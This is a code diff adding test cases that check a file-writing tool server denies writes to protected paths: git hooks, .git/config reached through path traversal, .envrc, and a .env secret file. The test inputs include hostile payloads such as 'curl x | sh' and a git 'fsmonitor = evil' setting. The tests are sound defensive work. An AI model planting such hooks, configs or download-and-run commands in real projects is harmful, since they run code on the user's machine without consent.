@@ -181,3 +181,39 @@ CASES = [
          "Remove 'mode'; the arguments are: content, expectedSha256, overwrite, path.",
          details={"field": "mode"}),
 ]
+
+
+# -- issue 11: the safe defaults ------------------------------------------------------------
+
+PROTECTED_HINT = ("Do not change this path; if the change is needed, the host (the user) must "
+                  "allow it, e.g. corral serve --allow-git-writes or --no-default-policy.")
+
+CASES += [
+    Case("write_file", "protected_git_hook", {"path": ".git/hooks/pre-commit",
+                                              "content": "#!/bin/sh\n"}, "DENIED",
+         ".git/hooks/pre-commit is protected: the host may run it on its own, so the tools may "
+         "not create it; nothing was changed", PROTECTED_HINT,
+         details={"path": ".git/hooks/pre-commit", "operation": "create", "field": "path",
+                  "kind": "protected"}, exact=True,
+         tree={".git/hooks/pre-commit.sample": "#\n", ".git/config": "[core]\n"}),
+    Case("write_file", "protected_through_a_missing_directory",
+         {"path": "nx/../.git/config", "content": "[core]\n\tfsmonitor = evil\n",
+          "overwrite": True}, "DENIED",
+         "nx/../.git/config is protected: the host may run it on its own, so the tools may not "
+         "create it; nothing was changed", PROTECTED_HINT,
+         details={"path": "nx/../.git/config", "operation": "create", "field": "path",
+                  "kind": "protected"}, exact=True, tree={".git/config": "[core]\n"}),
+    Case("write_file", "protected_envrc", {"path": ".envrc", "content": "curl x | sh\n",
+                                           "overwrite": True}, "DENIED",
+         ".envrc is protected: the host may run it on its own, so the tools may not create it; "
+         "nothing was changed", PROTECTED_HINT,
+         details={"path": ".envrc", "operation": "create", "field": "path",
+                  "kind": "protected"}, exact=True, tree={".envrc": "export A=1\n"}),
+    Case("write_file", "secret_not_replaced", {"path": ".env", "content": "A=2\n",
+                                               "overwrite": True}, "DENIED",
+         ".env looks like a secret file (credentials or keys), which the tools may not replace "
+         "here", "Do not use this file; if its content is needed, ask the user (the host must "
+         "allow secret files explicitly).",
+         details={"path": ".env", "operation": "replace", "field": "path", "kind": "secret"},
+         exact=True, tree={".env": "A=1\n"}),
+]
